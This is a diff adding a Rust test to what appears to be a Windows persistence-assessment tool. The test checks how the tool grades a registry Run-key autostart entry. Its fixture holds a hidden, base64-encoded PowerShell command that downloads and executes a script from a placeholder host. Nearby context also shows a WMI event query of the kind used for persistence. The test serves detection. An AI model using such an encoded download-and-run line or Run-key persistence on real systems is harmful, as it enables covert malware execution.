@@ -467,6 +467,25 @@ fn a_task_of_which_the_registry_runs_something_else_is_a_finding() {
 }
 
 #[test]
+fn what_a_damaged_hive_lost_is_the_past_and_never_planned() {
+    let entry = RecordData::Autostart(evidence::AutostartEntry {
+        kind: Some(evidence::AutostartKind::Run),
+        location: r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run".into(),
+        name: "x".into(),
+        launch_string: Some(
+            "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAuAHgALwBhACcAKQA="
+                .into(),
+        ),
+        ..evidence::AutostartEntry::default()
+    });
+    let mut evidence = records_of([entry]);
+    assert_eq!(assess(&evidence).findings[0].action, Action::Remove);
+    evidence.sources[0].format = "registry-hive-deleted".into();
+    let found = assess(&evidence);
+    assert_eq!((found.findings[0].severity, found.findings[0].action), (Severity::Medium, Action::Review));
+}
+
+#[test]
 fn what_hangs_on_something_missing_is_still_judged() {
     let query = "SELECT * FROM __InstanceModificationEvent WITHIN 5600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'";
     let mut objects = stock();
